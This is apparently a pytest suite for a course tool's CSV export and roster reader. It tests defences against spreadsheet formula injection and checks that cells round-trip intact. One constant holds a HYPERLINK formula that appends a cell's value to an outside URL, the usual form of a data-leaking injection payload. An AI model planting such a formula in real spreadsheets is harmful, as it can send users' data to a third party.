"""No cell that a person may open becomes a formula, and every cell comes back as it was meant."""

from __future__ import annotations

import csv
import random
import re
from pathlib import Path

import pytest

from readingroom.content.errors import CourseError
from readingroom.teaching.roster import read_roster
from readingroom.teaching.spreadsheets import as_meant, harmless, reading, writing

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("https://example.org/"&A1)'


@pytest.mark.parametrize(
    "before", ["", " ", "   ", "\t", "\n", "\r", "\r\n ", "\N{NO-BREAK SPACE}", "\u200b", "\ufeff", "\x00", "\u2003\t"]
)
@pytest.mark.parametrize("sign", "=+-@＝＋－＠﹦﹢﹣﹫")
def test_no_cell_becomes_a_formula_whatever_stands_before_its_sign(before, sign):
    assert harmless(f"{before}{sign}A1+1") == f"'{before}{sign}A1+1"


@pytest.mark.parametrize(
    "number",
    ["-2.5", "+3", "-0,5", "-.5", "+1e6", " -2.5", "-1.", "2.5", "0", "", "1/2", "-", "a=1", "x@y.org", "o'clock"],
)
def test_numbers_and_words_stay_as_they_are(number):
    assert harmless(number) == (number if number != "-" else "'-")


@pytest.mark.parametrize("word", ["-inf", "-nan", "+infinity", "-1_000", "-1+1", "-1.2.3", "－5", "-1e9999", "-٣"])
def test_what_only_looks_like_a_number_to_python_is_none(word):
    assert harmless(word) == f"'{word}"


def test_every_cell_comes_back_as_it_was_meant(tmp_path):
    chance = random.Random(3)
    cells = ["".join(chance.choices("='＝+- \t\r\n\x00\"',;a1@’é\ufeff", k=chance.randint(0, 7))) for _ in range(3_000)]

    writing(tmp_path / "a.csv", [["code", "text"], *(["c", cell] for cell in cells)])

    assert [row["text"] for _, row in reading(tmp_path / "a.csv", "text")] == [
        re.sub(r"\r(?!\n)", "\n", cell) for cell in cells
    ]
    assert [as_meant(harmless(cell)) for cell in cells] == cells
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
        assert not any(row[1].lstrip().startswith(("=", "＝", "@")) for row in csv.reader(file))


def test_what_an_earlier_version_quoted_is_read_as_before(tmp_path):
    (tmp_path / "a.csv").write_text(f"text\n'=1+1\n'-x\n'hello'\n\"'{LINK.replace(chr(34), chr(34) * 2)}\"\n")

    assert [row["text"] for _, row in reading(tmp_path / "a.csv", "text")] == ["=1+1", "-x", "'hello'", LINK]


def test_a_cell_longer_than_pythons_reader_takes_comes_back(tmp_path):
    writing(tmp_path / "a.csv", [["text"], ["x" * 500_000]])

    assert [len(row["text"]) for _, row in reading(tmp_path / "a.csv", "text")] == [500_000]


def test_half_a_letter_never_keeps_a_list_from_being_written(tmp_path):
    assert "\\ud800" in writing(tmp_path / "a.csv", [["a\ud800"]]).read_text(encoding="utf-8")


def test_nobody_writes_a_table_past_the_quoting():
    writers = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "readingroom/teaching").rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    ]

    assert writers == ["readingroom/teaching/spreadsheets.py"]


@pytest.mark.parametrize(
    "text, students",
    [
        ('id,name\na,"Anna\nBerta"\nb,B\n', [("a", "Anna\nBerta"), ("b", "B")]),
        ("id,name\na,An\u2028na\nb,B\x0bC\n", [("a", "An\u2028na"), ("b", "B\x0bC")]),
        ("id,name\r\na,A\r\nb,B\r\n", [("a", "A"), ("b", "B")]),
        ("id,name\n'=a,'-A\n", [("=a", "-A")]),
        (f"id,name\na,{'x' * 200_000}\n", [("a", "x" * 200_000)]),
    ],
)
def test_a_list_is_read_row_by_row_whatever_is_in_its_cells(tmp_path, text, students):
    (tmp_path / "r.csv").write_bytes(text.encode())

    assert [(student.id, student.name) for student in read_roster(tmp_path / "r.csv").students] == students


@pytest.mark.parametrize("content", [b"id\n\xff\xfe", b"", b"\0" * 100, b'"id\n' * 50])
def test_a_list_that_is_no_table_is_said(tmp_path, content):
    (tmp_path / "r.csv").write_bytes(content)

    with pytest.raises(CourseError, match=r"r\.csv"):
        read_roster(tmp_path / "r.csv")
